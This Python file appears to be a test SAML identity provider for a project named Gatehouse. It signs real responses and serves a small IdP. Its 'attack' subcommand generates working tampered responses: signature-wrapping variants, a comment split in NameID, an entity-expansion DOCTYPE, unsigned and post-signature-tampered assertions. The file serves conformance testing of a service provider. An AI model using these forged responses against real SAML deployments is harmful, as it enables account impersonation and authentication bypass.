#!/usr/bin/env python3
"""A real, scriptable test SAML 2.0 identity provider for Gatehouse.

Every response is built and signed by pysaml2 (which signs through the xmlsec1
binary); attacks start from such a signed response and tamper with the parsed
XML tree with lxml. See README.md beside this file.

Subcommands: metadata, response, attack, serve, keys.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import fcntl
import html
import json
import os
import shutil
import signal
import sys
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import warnings

from cryptography import x509
from cryptography.utils import CryptographyDeprecationWarning
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree

warnings.filterwarnings("ignore", category=CryptographyDeprecationWarning)  # pysaml2 + new cryptography

import saml2
from saml2 import BINDING_HTTP_POST, BINDING_HTTP_REDIRECT, md, saml, samlp, xmldsig
from saml2.config import IdPConfig
from saml2.metadata import entity_descriptor
from saml2.pack import http_form_post_message
from saml2.s_utils import decode_base64_and_inflate, do_ava, sid
from saml2.server import Server
from saml2.sigver import pre_signature_part
from saml2.time_util import in_a_while

HERE = Path(__file__).resolve().parent
KEYS_DIR = Path(os.environ.get("GATEHOUSE_SAML_IDP_KEYS", HERE / ".keys"))
XMLSEC1 = shutil.which("xmlsec1") or "/usr/bin/xmlsec1"

DEFAULT_IDP_ENTITY_ID = "https://idp.gatehouse.test/saml/metadata"
DEFAULT_SSO_URL = "https://idp.gatehouse.test/saml/sso"
DEFAULT_SP_ENTITY_ID = "https://gatehouse.test/saml/metadata"
DEFAULT_ACS_URL = "https://gatehouse.test/saml/acs"
DEFAULT_NAME_ID = "alice@example.com"
DEFAULT_EVIL_NAME_ID = "mallory@example.com"

NS = {
    "samlp": samlp.NAMESPACE,
    "saml": saml.NAMESPACE,
    "ds": xmldsig.NAMESPACE,
}
ALGS = {
    "sha256": (xmldsig.SIG_RSA_SHA256, xmldsig.DIGEST_SHA256),
    "sha1": (xmldsig.SIG_RSA_SHA1, xmldsig.DIGEST_SHA1),
}
NAME_FORMATS = {
    "basic": saml.NAME_FORMAT_BASIC,
    "uri": saml.NAME_FORMAT_URI,
    "unspecified": saml.NAME_FORMAT_UNSPECIFIED,
    "none": None,
}

# --------------------------------------------------------------------------------------
# keys


def _make_key_pair(name: str, common_name: str) -> None:
    key_path = KEYS_DIR / f"{name}.key"
    cert_path = KEYS_DIR / f"{name}.crt"
    if key_path.exists() and cert_path.exists():
        return
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    subject = x509.Name(
        [
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Gatehouse conformance"),
            x509.NameAttribute(NameOID.COMMON_NAME, common_name),
        ]
    )
    now = dt.datetime.now(dt.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=3650))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    key_pem = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.TraditionalOpenSSL,  # "BEGIN RSA PRIVATE KEY": what xmlsec1 likes best
        serialization.NoEncryption(),
    )
    for path, data, mode in ((key_path, key_pem, 0o600), (cert_path, cert.public_bytes(serialization.Encoding.PEM), 0o644)):
        tmp = path.with_suffix(path.suffix + ".tmp")
        tmp.write_bytes(data)
        os.chmod(tmp, mode)
        os.replace(tmp, path)


def ensure_keys() -> None:
    """Create .keys/{idp,attacker}.{key,crt} once; safe to call concurrently."""
    KEYS_DIR.mkdir(parents=True, exist_ok=True)
    gitignore = KEYS_DIR / ".gitignore"
    if not gitignore.exists():
        gitignore.write_text("*\n")
    with open(KEYS_DIR / ".lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        _make_key_pair("idp", "Gatehouse test IdP")
        _make_key_pair("attacker", "Gatehouse test attacker (second key)")


def key_files(which: str) -> tuple[str, str]:
    ensure_keys()
    name = "attacker" if which in ("attacker", "second") else "idp"
    return str(KEYS_DIR / f"{name}.key"), str(KEYS_DIR / f"{name}.crt")


def cert_b64(cert_file: str) -> str:
    """The base64 body of a PEM certificate (what goes into ds:X509Certificate)."""
    lines = Path(cert_file).read_text().strip().splitlines()
    return "".join(line for line in lines if not line.startswith("-----"))


# --------------------------------------------------------------------------------------
# pysaml2 configuration


def sp_metadata_xml(sp_entity_id: str, acs_url: str) -> str:
    """Minimal SP metadata so pysaml2's Server knows the SP it answers (no encryption cert)."""
    ed = md.EntityDescriptor(
        entity_id=sp_entity_id,
        spsso_descriptor=md.SPSSODescriptor(
            protocol_support_enumeration=samlp.NAMESPACE,
            want_assertions_signed="true",
            name_id_format=[md.NameIDFormat(text=saml.NAMEID_FORMAT_EMAILADDRESS)],
            assertion_consumer_service=[
                md.AssertionConsumerService(binding=BINDING_HTTP_POST, location=acs_url, index="0")
            ],
        ),
    )
    return to_xml(ed)


def idp_config(
    entity_id: str,
    sso_url: str,
    key: str = "idp",
    extra_certs: list[str] | None = None,
    sp: tuple[str, str] | None = None,
) -> IdPConfig:
    key_file, cert_file = key_files(key)
    conf = {
        "entityid": entity_id,
        "key_file": key_file,
        "cert_file": cert_file,
        "xmlsec_binary": XMLSEC1,
        "metadata_key_usage": "signing",
        "service": {
            "idp": {
                "name": "Gatehouse test IdP",
                "endpoints": {
                    "single_sign_on_service": [
                        (sso_url, BINDING_HTTP_REDIRECT),
                        (sso_url, BINDING_HTTP_POST),
                    ],
                },
                "name_id_format": [saml.NAMEID_FORMAT_EMAILADDRESS],
                "want_authn_requests_signed": False,
            }
        },
        "delete_tmpfiles": True,
    }
    if extra_certs:
        conf["additional_cert_files"] = extra_certs
    if sp:
        conf["metadata"] = {"inline": [sp_metadata_xml(*sp)]}
    cfg = IdPConfig()
    cfg.load(conf)
    return cfg


# --------------------------------------------------------------------------------------
# metadata


def build_metadata(entity_id: str, sso_url: str, cert: str = "idp", signing_cert: bool = True) -> str:
    _, idp_crt = key_files("idp")
    _, second_crt = key_files("attacker")
    if cert == "second":
        cfg = idp_config(entity_id, sso_url, key="attacker")
    elif cert == "both":
        cfg = idp_config(entity_id, sso_url, key="idp", extra_certs=[second_crt])
    else:
        cfg = idp_config(entity_id, sso_url, key="idp")
    ed = entity_descriptor(cfg)
    # pysaml2 lists every algorithm the local xmlsec1 knows (md5, sha1, ...) as extensions;
    # a real IdP does not, so leave them out.
    ed.extensions = None
    if not signing_cert:
        ed.idpsso_descriptor.key_descriptor = []
    xml = ed.to_string(nspair={"md": md.NAMESPACE, "ds": xmldsig.NAMESPACE})
    return xml.decode("utf-8") if isinstance(xml, bytes) else xml


# --------------------------------------------------------------------------------------
# responses


def parse_attr(spec: str) -> tuple[str, list[str]]:
    """NAME=V1,V2 (split on the first '='; claim URLs contain ':' and '/' but no '=')."""
    if "=" not in spec:
        raise argparse.ArgumentTypeError(f"--attr wants NAME=V1,V2, got {spec!r}")
    name, values = spec.split("=", 1)
    return name, [v for v in values.split(",")] if values != "" else []


def attribute_statement(attrs: list[tuple[str, list[str]]], name_format: str) -> saml.AttributeStatement:
    out = []
    for name, values in attrs:
        if name_format == "auto":
            fmt = saml.NAME_FORMAT_URI if ":" in name else saml.NAME_FORMAT_BASIC
        else:
            fmt = NAME_FORMATS[name_format]
        attr = saml.Attribute(name=name, name_format=fmt, attribute_value=do_ava(values) or [])
        out.append(attr)
    return saml.AttributeStatement(attribute=out)


def _offset_instant(seconds: int) -> str:
    return in_a_while(seconds=seconds)  # UTC, "%Y-%m-%dT%H:%M:%SZ"; negative = in the past


class Built:
    """An unsigned pysaml2 Response object plus what is needed to sign it."""

    def __init__(self, response: samlp.Response, server: Server, key_file: str, cert_file: str):
        self.response = response
        self.server = server
        self.key_file = key_file
        self.cert_file = cert_file

    @property
    def assertion(self) -> saml.Assertion:
        a = self.response.assertion
        return a[0] if isinstance(a, list) else a


def build_unsigned(opts, name_id: str | None = None) -> Built:
    """Build the Response with pysaml2's Server.create_authn_response (unsigned), then apply
    the test knobs (time window, audience, recipient, ids) on the pysaml2 objects."""
    key_file, cert_file = key_files(opts.key)
    cfg = idp_config(opts.entity_id, DEFAULT_SSO_URL, key=opts.key, sp=(opts.sp_entity_id, opts.acs_url))
    server = Server(config=cfg)
    nid = saml.NameID(format=saml.NAMEID_FORMAT_EMAILADDRESS, text=name_id or opts.name_id)
    opts.in_response_to = opts.in_response_to or None  # "" = IdP-initiated too
    resp = server.create_authn_response(
        identity={},
        in_response_to=opts.in_response_to,
        destination=opts.acs_url,
        sp_entity_id=opts.sp_entity_id,
        name_id=nid,
        issuer=opts.issuer or None,
        authn={"class_ref": saml.AUTHN_PASSWORD_PROTECTED},
        sign_response=False,
        sign_assertion=False,
    )
    if not isinstance(resp, samlp.Response):
        raise SystemExit(f"pysaml2 did not build a Response: {resp!r}")
    b = Built(resp, server, key_file, cert_file)
    a = b.assertion

    issue = _offset_instant(opts.issue_instant_offset)
    resp.issue_instant = issue
    a.issue_instant = issue
    for st in a.authn_statement:
        st.authn_instant = issue

    nb = _offset_instant(opts.not_before_offset)
    noa = _offset_instant(opts.not_on_or_after_offset)
    a.conditions.not_before = nb
    a.conditions.not_on_or_after = noa
    a.conditions.audience_restriction = [
        saml.AudienceRestriction(audience=[saml.Audience(text=opts.audience or opts.sp_entity_id)])
    ]
    for sc in a.subject.subject_confirmation:
        scd = sc.subject_confirmation_data
        scd.not_on_or_after = noa
        scd.recipient = opts.recipient or opts.acs_url
        if opts.in_response_to:
            scd.in_response_to = opts.in_response_to
    if opts.destination:
        resp.destination = opts.destination
    if opts.assertion_id:
        a.id = opts.assertion_id
    if opts.response_id:
        resp.id = opts.response_id
    if opts.attr:
        a.attribute_statement = [attribute_statement(opts.attr, opts.attr_name_format)]
    else:
        a.attribute_statement = []
    if getattr(opts, "no_authn_statement", False):
        a.authn_statement = []
    return b


def add_signature_templates(b: Built, sign: str, alg: str) -> list[tuple[str, str]]:
    """pysaml2's pre_signature_part templates (enveloped-signature + exclusive C14N, as
    pysaml2 does). Returns the (node_name, id) list to sign, innermost first."""
    sign_alg, digest_alg = ALGS[alg]
    pub = cert_b64(b.cert_file)
    to_sign = []
    if sign in ("assertion", "both"):
        a = b.assertion
        a.signature = pre_signature_part(a.id, pub, 2, sign_alg=sign_alg, digest_alg=digest_alg)
        to_sign.append((saml.Assertion.c_namespace + ":" + saml.Assertion.c_tag, a.id))
    if sign in ("response", "both"):
        r = b.response
        r.signature = pre_signature_part(r.id, pub, 1, sign_alg=sign_alg, digest_alg=digest_alg)
        to_sign.append((samlp.Response.c_namespace + ":" + samlp.Response.c_tag, r.id))
    return to_sign


def sign_xml(b: Built, xml: str, to_sign: list[tuple[str, str]]) -> str:
    """Sign the template-bearing XML with pysaml2's SecurityContext (xmlsec1), innermost first."""
    for node_name, node_id in to_sign:
        xml = b.server.sec.sign_statement(xml, node_name=node_name, key_file=b.key_file, node_id=node_id)
    return xml


# The prefixes real IdPs use; pysaml2's own default is ns0/ns1/ns2 (--ns-prefixes pysaml2).
NSPAIR = {"samlp": samlp.NAMESPACE, "saml": saml.NAMESPACE, "ds": xmldsig.NAMESPACE}
NS_PREFIXES = {"saml": NSPAIR, "pysaml2": None}


def to_xml(obj, nspair=None) -> str:
    s = obj.to_string(nspair=nspair) if hasattr(obj, "to_string") else obj
    return s.decode("utf-8") if isinstance(s, bytes) else s


def build_signed(opts, name_id: str | None = None, tree_hook=None) -> str:
    """Build, optionally edit the (still unsigned) tree with `tree_hook`, then sign."""
    b = build_unsigned(opts, name_id=name_id)
    to_sign = add_signature_templates(b, opts.sign, opts.alg)
    xml = to_xml(b.response, NS_PREFIXES[getattr(opts, "ns_prefixes", "saml")])
    if tree_hook is not None:
        root = parse(xml)
        tree_hook(root)
        xml = serialize(root)
    if to_sign:
        xml = sign_xml(b, xml, to_sign)
    return xml


# --------------------------------------------------------------------------------------
# lxml helpers (tampering happens on parsed trees, never on string templates)


def parse(xml: str | bytes) -> etree._Element:
    data = xml.encode("utf-8") if isinstance(xml, str) else xml
    parser = etree.XMLParser(remove_blank_text=False, resolve_entities=False, load_dtd=False, no_network=True)
    return etree.fromstring(data, parser)


def serialize(root: etree._Element) -> str:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8").decode("utf-8")


def q(prefix: str, tag: str) -> str:
    return "{%s}%s" % (NS[prefix], tag)


def response_assertions(root: etree._Element) -> list[etree._Element]:
    return root.findall("saml:Assertion", NS)


def name_id_of(el: etree._Element) -> etree._Element:
    nid = el.find(".//saml:Subject/saml:NameID", NS)
    if nid is None:
        raise SystemExit("no NameID found")
    return nid


def evil_assertion(opts) -> etree._Element:
    """An UNSIGNED assertion for the attacker's NameID, built by pysaml2 like the real one."""
    b = build_unsigned(opts, name_id=opts.evil_name_id)
    b.assertion.signature = None
    root = parse(to_xml(b.response, NS_PREFIXES[getattr(opts, "ns_prefixes", "saml")]))
    a = response_assertions(root)[0]
    return a


def insert_after_issuer_and_signature(resp: etree._Element, el: etree._Element) -> None:
    """Place `el` where samlp:Extensions belongs: after Issuer and (optional) Signature."""
    idx = 0
    for i, child in enumerate(resp):
        if child.tag in (q("saml", "Issuer"), q("ds", "Signature")):
            idx = i + 1
    resp.insert(idx, el)


# --------------------------------------------------------------------------------------
# attacks


def attack_wrap_response_sibling(opts) -> str:
    root = parse(build_signed(opts))
    signed = response_assertions(root)[0]
    evil = evil_assertion(opts)
    if opts.evil_same_id:
        evil.set("ID", signed.get("ID"))
    # the evil assertion takes the real one's place (after Status) ...
    root.replace(signed, evil)
    # ... and the signed one moves into samlp:Extensions (after Issuer/Signature)
    ext = etree.Element(q("samlp", "Extensions"), nsmap={"samlp": NS["samlp"]})
    ext.append(signed)
    insert_after_issuer_and_signature(root, ext)
    return serialize(root)


def attack_wrap_assertion_in_signature(opts) -> str:
    root = parse(build_signed(opts))
    signed = response_assertions(root)[0]
    sig = signed.find("ds:Signature", NS)
    if sig is None:
        raise SystemExit("wrap-assertion-in-signature needs a signed assertion (--sign assertion|both)")
    evil = evil_assertion(opts)
    if opts.evil_same_id:
        evil.set("ID", signed.get("ID"))
    # Move the original Signature into the evil assertion (where a signature sits: after Issuer),
    # and the original assertion, without its Signature, into a ds:Object of that Signature.
    # The Reference still points at the original ID, so the digest still matches.
    signed.remove(sig)
    obj = etree.SubElement(sig, q("ds", "Object"))
    root.replace(signed, evil)
    obj.append(signed)
    evil_issuer = evil.find("saml:Issuer", NS)
    evil_issuer.addnext(sig)
    return serialize(root)


def attack_wrap_evil_first(opts) -> str:
    root = parse(build_signed(opts))
    signed = response_assertions(root)[0]
    evil = evil_assertion(opts)
    if opts.evil_same_id:
        evil.set("ID", signed.get("ID"))
    signed.addprevious(evil)
    return serialize(root)


def attack_comment_in_nameid(opts) -> str:
    victim = opts.name_id
    suffix = opts.comment_suffix

    def hook(root: etree._Element) -> None:
        for a in response_assertions(root):
            nid = name_id_of(a)
            nid.text = victim
            comment = etree.Comment("")
            nid.append(comment)
            comment.tail = suffix

    # NameID as the IdP knows it: victim + suffix (the attacker's own, legitimate account);
    # a comment splits it, so a parser reading only the first text node sees the victim.
    return build_signed(opts, name_id=victim + suffix, tree_hook=hook)


def attack_doctype(opts) -> str:
    # Nested internal entities ("billion laughs", lite): &l3; expands to 4*4*4 "lol" = 192 chars.
    expansion = "lol" * 64
    ent_name = "l3"

    # Sign the expanded text, then swap it for the entity reference: a parser that expands
    # entities sees exactly what was signed, so only a DOCTYPE refusal stops it.
    signed = build_signed(opts, name_id=expansion + opts.name_id)
    root = parse(signed)
    for a in response_assertions(root):
        nid = name_id_of(a)
        nid.text = None
        ent = etree.Entity(ent_name)
        nid.append(ent)
        ent.tail = opts.name_id
    body = etree.tostring(root, encoding="UTF-8").decode("utf-8")
    # The DOCTYPE sits before the root element, outside every signed node.
    doctype = (
        "<!DOCTYPE samlp:Response [\n"
        ' <!ENTITY l0 "lol">\n'
        ' <!ENTITY l1 "&l0;&l0;&l0;&l0;">\n'
        ' <!ENTITY l2 "&l1;&l1;&l1;&l1;">\n'
        ' <!ENTITY l3 "&l2;&l2;&l2;&l2;">\n'
        "]>\n"
    )
    return '<?xml version="1.0" encoding="UTF-8"?>\n' + doctype + body


def attack_unsigned(opts) -> str:
    opts.sign = "none"
    return build_signed(opts)


def attack_tamper_after_sign(opts) -> str:
    root = parse(build_signed(opts))
    for a in response_assertions(root):
        name_id_of(a).text = opts.evil_name_id
    return serialize(root)


ATTACKS = {
    "wrap-response-sibling": attack_wrap_response_sibling,
    "wrap-assertion-in-signature": attack_wrap_assertion_in_signature,
    "wrap-evil-first": attack_wrap_evil_first,
    "comment-in-nameid": attack_comment_in_nameid,
    "doctype": attack_doctype,
    "unsigned": attack_unsigned,
    "tamper-after-sign": attack_tamper_after_sign,
}
# Which signature mode each attack uses when --sign is not given.
ATTACK_DEFAULT_SIGN = {
    "wrap-response-sibling": "assertion",
    "wrap-assertion-in-signature": "assertion",
    "wrap-evil-first": "assertion",
    "comment-in-nameid": "both",
    "doctype": "both",
    "unsigned": "none",
    "tamper-after-sign": "both",
}


# --------------------------------------------------------------------------------------
# output


def emit(xml: str, fmt: str) -> None:
    if fmt == "xml":
        sys.stdout.write(xml if xml.endswith("\n") else xml + "\n")
    else:
        sys.stdout.write(base64.b64encode(xml.encode("utf-8")).decode("ascii") + "\n")


# --------------------------------------------------------------------------------------
# serve


def load_users(path: str) -> dict[str, list[tuple[str, list[str]]]]:
    """JSON: {"alice@example.com": {"groups": ["Engineering"], "givenname": "Alice"}, ...}
    or a list of {"email": "...", <attr>: value-or-list, ...}."""
    data = json.loads(Path(path).read_text())
    if isinstance(data, list):
        data = {u["email"]: {k: v for k, v in u.items() if k != "email"} for u in data}
    users = {}
    for email, attrs in data.items():
        users[email] = [(k, v if isinstance(v, list) else [str(v)]) for k, v in (attrs or {}).items()]
    return users


class _ServeState:
    def __init__(self, args, users):
        self.args = args
        self.users = users
        self.lock = threading.Lock()


def make_handler(state: _ServeState):
    args = state.args

    class Handler(BaseHTTPRequestHandler):
        server_version = "GatehouseTestIdP/1"

        def log_message(self, fmt, *a):  # to stderr, quietly
            sys.stderr.write("idp: " + (fmt % a) + "\n")

        def _send(self, status: int, body: str, ctype: str = "text/html; charset=utf-8") -> None:
            data = body.encode("utf-8")
            self.send_response(status)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(data)))
            self.send_header("Cache-Control", "no-store")
            self.end_headers()
            self.wfile.write(data)

        def _params(self) -> dict[str, str]:
            url = urllib.parse.urlsplit(self.path)
            params = dict(urllib.parse.parse_qsl(url.query, keep_blank_values=True))
            if self.command == "POST":
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n).decode("utf-8") if n else ""
                params.update(urllib.parse.parse_qsl(body, keep_blank_values=True))
            return params

        def do_GET(self):
            self._route()

        def do_POST(self):
            self._route()

        def _route(self):
            path = urllib.parse.urlsplit(self.path).path
            try:
                if path == "/metadata":
                    xml = build_metadata(args.entity_id, args.sso_url, cert=args.cert)
                    return self._send(200, xml, "application/samlmetadata+xml")
                if path == "/sso":
                    return self._sso(self._params())
                if path == "/login":
                    return self._login(self._params())
                if path == "/healthz":
                    return self._send(200, "ok\n", "text/plain")
                return self._send(404, "not found\n", "text/plain")
            except Exception as exc:  # a test IdP: show the error
                return self._send(500, f"idp error: {html.escape(str(exc))}\n", "text/plain")

        def _sso(self, p):
            raw = p.get("SAMLRequest")
            if not raw:
                return self._send(400, "missing SAMLRequest\n", "text/plain")
            relay = p.get("RelayState", "")
            try:
                if self.command == "GET":  # HTTP-Redirect binding: base64 + raw DEFLATE
                    xml = decode_base64_and_inflate(raw)
                else:  # HTTP-POST binding: base64 only
                    xml = base64.b64decode(raw)
                req = samlp.authn_request_from_string(xml)
            except Exception as exc:
                return self._send(400, f"undecodable SAMLRequest: {html.escape(str(exc))}\n", "text/plain")
            if req is None:
                return self._send(400, "SAMLRequest is not an AuthnRequest\n", "text/plain")
            issuer = req.issuer.text.strip() if req.issuer is not None and req.issuer.text else None
            if issuer != args.sp_entity_id:
                return self._send(400, f"unknown SP issuer {html.escape(str(issuer))}\n", "text/plain")
            acs = req.assertion_consumer_service_url
            if acs and acs != args.sp_acs:
                return self._send(400, f"ACS URL {html.escape(acs)} is not the registered one\n", "text/plain")
            if args.auto_user:
                return self._respond(args.auto_user, req.id, relay)
            options = "".join(
                f'<option value="{html.escape(u)}">{html.escape(u)}</option>' for u in state.users
            )
            page = (
                "<!DOCTYPE html><html><head><meta charset='utf-8'><title>Test IdP sign-in</title></head>"
                "<body><h1>Gatehouse test IdP</h1>"
                f"<p>Sign-in requested by <code>{html.escape(issuer)}</code></p>"
                '<form method="post" action="/login">'
                f'<input type="hidden" name="request_id" value="{html.escape(req.id)}"/>'
                f'<input type="hidden" name="RelayState" value="{html.escape(relay)}"/>'
                f'<label>User <select name="user" id="user">{options}</select></label> '
                '<button type="submit" id="signin">Sign in</button></form></body></html>'
            )
            return self._send(200, page)

        def _login(self, p):
            user = p.get("user", "")
            req_id = p.get("request_id") or None
            return self._respond(user, req_id, p.get("RelayState", ""))

        def _respond(self, user, req_id, relay):
            if user not in state.users:
                return self._send(403, f"unknown user {html.escape(user)}\n", "text/plain")
            opts = response_defaults(
                entity_id=args.entity_id,
                sp_entity_id=args.sp_entity_id,
                acs_url=args.sp_acs,
                name_id=user,
                in_response_to=req_id,
                attr=state.users[user],
                sign=args.sign,
                alg=args.alg,
                key=args.key,
            )
            with state.lock:
                xml = build_signed(opts)
            form = http_form_post_message(xml, args.sp_acs, relay_state=relay, typ="SAMLResponse")
            return self._send(200, form["data"])

    return Handler


def response_defaults(**kw) -> argparse.Namespace:
    base = dict(
        entity_id=DEFAULT_IDP_ENTITY_ID,
        sp_entity_id=DEFAULT_SP_ENTITY_ID,
        acs_url=DEFAULT_ACS_URL,
        audience=None,
        name_id=DEFAULT_NAME_ID,
        in_response_to=None,
        attr=[],
        attr_name_format="auto",
        sign="both",
        alg="sha256",
        key="idp",
        not_before_offset=-60,
        not_on_or_after_offset=300,
        issue_instant_offset=0,
        issuer=None,
        assertion_id=None,
        response_id=None,
        ns_prefixes="saml",
        destination=None,
        recipient=None,
    )
    base.update(kw)
    return argparse.Namespace(**base)


def cmd_serve(args) -> int:
    users = load_users(args.users)
    if args.auto_user and args.auto_user not in users:
        raise SystemExit(f"--auto-user {args.auto_user} is not in {args.users}")
    httpd = ThreadingHTTPServer((args.host, args.port), None)  # handler set below
    port = httpd.server_address[1]
    base = args.base_url or f"http://{args.host}:{port}"
    args.entity_id = args.entity_id or f"{base}/metadata"
    args.sso_url = f"{base}/sso"
    httpd.RequestHandlerClass = make_handler(_ServeState(args, users))
    httpd.daemon_threads = True

    def stop(*_):
        threading.Thread(target=httpd.shutdown, daemon=True).start()

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    if args.max_seconds:
        t = threading.Timer(args.max_seconds, stop)
        t.daemon = True
        t.start()
    print(f"listening {base} entity_id={args.entity_id} sso={args.sso_url}", flush=True)
    try:
        httpd.serve_forever(poll_interval=0.2)
    finally:
        httpd.server_close()
    return 0


# --------------------------------------------------------------------------------------
# CLI


def add_response_options(p: argparse.ArgumentParser, attack: bool = False) -> None:
    p.add_argument("--entity-id", default=DEFAULT_IDP_ENTITY_ID, help="the IdP entity id (Issuer)")
    p.add_argument("--sp-entity-id", default=DEFAULT_SP_ENTITY_ID)
    p.add_argument("--acs-url", default=DEFAULT_ACS_URL, help="Destination and SubjectConfirmationData Recipient")
    p.add_argument("--audience", default=None, help="Audience (default: --sp-entity-id)")
    p.add_argument("--name-id", default=DEFAULT_NAME_ID, help="NameID, format emailAddress")
    p.add_argument("--in-response-to", default=None, help="AuthnRequest ID; omit for IdP-initiated")
    p.add_argument("--attr", action="append", type=parse_attr, default=[], metavar="NAME=V1,V2")
    p.add_argument(
        "--attr-name-format",
        choices=["auto", "basic", "uri", "unspecified", "none"],
        default="auto",
        help="Attribute NameFormat; auto = uri when the name has ':', else basic",
    )
    p.add_argument(
        "--sign",
        choices=["response", "assertion", "both", "none"],
        default=None if attack else "both",
        help="what to sign (default both; attacks pick their own default)",
    )
    p.add_argument("--alg", choices=sorted(ALGS), default="sha256", help="signature AND digest algorithm")
    p.add_argument("--key", choices=["idp", "attacker", "second"], default="idp", help="signing key")
    p.add_argument("--not-before-offset", type=int, default=-60, metavar="SECONDS")
    p.add_argument("--not-on-or-after-offset", type=int, default=300, metavar="SECONDS")
    p.add_argument("--issue-instant-offset", type=int, default=0, metavar="SECONDS",
                   help="IssueInstant (Response, Assertion, AuthnInstant) relative to now")
    p.add_argument("--issuer", default=None, help="override the Issuer of Response and Assertion")
    p.add_argument("--assertion-id", default=None)
    p.add_argument("--no-authn-statement", action="store_true",
                   help="leave out the AuthnStatement (the web-SSO profile requires one)")
    p.add_argument("--response-id", default=None)
    p.add_argument("--destination", default=None, help="override the Response Destination")
    p.add_argument("--recipient", default=None, help="override SubjectConfirmationData Recipient")
    p.add_argument("--ns-prefixes", choices=sorted(NS_PREFIXES), default="saml",
                   help="saml = samlp:/saml:/ds: (default); pysaml2 = its ns0:/ns1:/ns2:")
    p.add_argument("--format", choices=["base64", "xml"], default="base64", help="output (default base64)")


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="idp.py", description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)

    m = sub.add_parser("metadata", help="print IdP metadata XML")
    m.add_argument("--entity-id", default=DEFAULT_IDP_ENTITY_ID)
    m.add_argument("--sso-url", default=DEFAULT_SSO_URL)
    m.add_argument("--cert", choices=["idp", "second", "both"], default="idp",
                   help="which signing cert(s) to list; second = the attacker/rollover key")
    m.add_argument("--no-signing-cert", action="store_true", help="no KeyDescriptor at all")

    r = sub.add_parser("response", help="print a signed SAMLResponse (base64, POST binding)")
    add_response_options(r)

    a = sub.add_parser("attack", help="print a tampered SAMLResponse")
    a.add_argument("kind", choices=sorted(ATTACKS))
    add_response_options(a, attack=True)
    a.add_argument("--evil-name-id", default=DEFAULT_EVIL_NAME_ID)
    a.add_argument("--evil-same-id", action="store_true", help="give the evil assertion the signed one's ID")
    a.add_argument("--comment-suffix", default=".evil.com",
                   help="comment-in-nameid: NameID is NAME-ID<!---->SUFFIX")

    s = sub.add_parser("serve", help="run a tiny HTTP IdP (Redirect/POST SSO -> POST to the ACS)")
    s.add_argument("--host", default="127.0.0.1")
    s.add_argument("--port", type=int, default=0, help="0 = pick a free port (printed)")
    s.add_argument("--base-url", default=None, help="public base URL (default http://HOST:PORT)")
    s.add_argument("--entity-id", default=None, help="default BASE/metadata")
    s.add_argument("--sp-acs", required=True)
    s.add_argument("--sp-entity-id", required=True)
    s.add_argument("--users", required=True, help="JSON file, see README")
    s.add_argument("--auto-user", default=None)
    s.add_argument("--sign", choices=["response", "assertion", "both", "none"], default="both")
    s.add_argument("--alg", choices=sorted(ALGS), default="sha256")
    s.add_argument("--key", choices=["idp", "attacker", "second"], default="idp")
    s.add_argument("--cert", choices=["idp", "second", "both"], default="idp", help="certs in /metadata")
    s.add_argument("--max-seconds", type=float, default=0, help="exit after this long (0 = never)")

    sub.add_parser("keys", help="create the key pairs if missing and print their paths")

    args = ap.parse_args(argv)
    if args.cmd == "metadata":
        print(build_metadata(args.entity_id, args.sso_url, cert=args.cert, signing_cert=not args.no_signing_cert))
        return 0
    if args.cmd == "response":
        emit(build_signed(args), args.format)
        return 0
    if args.cmd == "attack":
        if args.sign is None:
            args.sign = ATTACK_DEFAULT_SIGN[args.kind]
        emit(ATTACKS[args.kind](args), args.format)
        return 0
    if args.cmd == "serve":
        return cmd_serve(args)
    if args.cmd == "keys":
        ensure_keys()
        for n in ("idp", "attacker"):
            print(KEYS_DIR / f"{n}.key", KEYS_DIR / f"{n}.crt")
        return 0
    return 2


if __name__ == "__main__":
    sys.exit(main())
